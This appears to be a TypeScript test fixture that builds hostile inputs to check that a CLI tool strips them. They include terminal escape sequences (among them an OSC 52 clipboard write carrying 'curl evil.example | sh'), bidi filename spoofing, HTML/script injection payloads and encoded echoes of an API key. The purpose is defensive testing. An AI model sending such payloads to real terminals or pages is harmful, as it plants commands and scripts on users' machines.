// What a hostile provider, CLI or paste sends to make a terminal, a JSON consumer or a shared
// report do something: every escape sequence family, bidi controls, Markdown and HTML, a
// megabyte field, and echoes of the key it was sent (half of it, base64, URL-encoded).

const ESC = '\u001B';

/** Each sequence carries a marker that must never reach any output, with or without its ESC. */
export const SEQUENCES = {
  clipboard: `${ESC}]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\u0007`,
  title: `${ESC}]0;PWNED-TITLE${ESC}\\`,
  link: `${ESC}]8;;https://evil.example/osc8${ESC}\\osc8-text${ESC}]8;;${ESC}\\`,
  clear: `${ESC}[2J${ESC}[3J${ESC}[H`,
  dcs: `${ESC}P+qPWNED-DCS${ESC}\\`,
  apc: `${ESC}_PWNED-APC${ESC}\\`,
  pm: `${ESC}^PWNED-PM${ESC}\\`,
  sos: `${ESC}XPWNED-SOS${ESC}\\`,
  c1Csi: '\u009B2J',
  c1Osc: '\u009D0;PWNED-C1\u009C',
  bidi: 'cod\u202Egnp.exe\u202C \u2067iso\u2069',
  bell: '\u0007\u0008\u007F',
} as const;

/** The markers inside SEQUENCES' payloads; none may appear in anything the tool writes. */
export const PAYLOAD_MARKERS = [
  Buffer.from('curl evil.example | sh').toString('base64'),
  'PWNED-TITLE',
  'evil.example/osc8',
  'PWNED-DCS',
  'PWNED-APC',
  'PWNED-PM',
  'PWNED-SOS',
  'PWNED-C1',
];

export const ALL_SEQUENCES = Object.values(SEQUENCES).join(' ');

export const MARKDOWN = [
  '[click here](http://evil.example/md-link)',
  '![pixel](http://evil.example/md-image.png)',
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '**BOLD** _em_ ~~strike~~',
].join(' ');

/** A field this long must come back cut to 300 characters. */
export const MEGA = 1_000_000;
export const MEGA_CHAR = 'Z';
export const megaField = () => MEGA_CHAR.repeat(MEGA);

/** Echoes of a key the way a careless or hostile server returns it. */
export function echoesOf(key: string): string[] {
  const half = key.slice(Math.floor(key.length / 4), Math.floor(key.length / 4) + 16);
  return [
    `half ${half}`,
    `tail ${key.slice(-14)}`,
    `b64 ${Buffer.from(key).toString('base64')}`,
    `b64url ${Buffer.from(key).toString('base64url')}`,
    `basic ${Buffer.from(`${key}:`).toString('base64')}`,
    `url ${encodeURIComponent(key)}`,
  ];
}

/** A hostile string with everything at once, for fields that are short in real life. */
export function hostileText(key?: string): string {
  return [ALL_SEQUENCES, MARKDOWN, ...(key ? echoesOf(key) : [])].join(' | ');
}
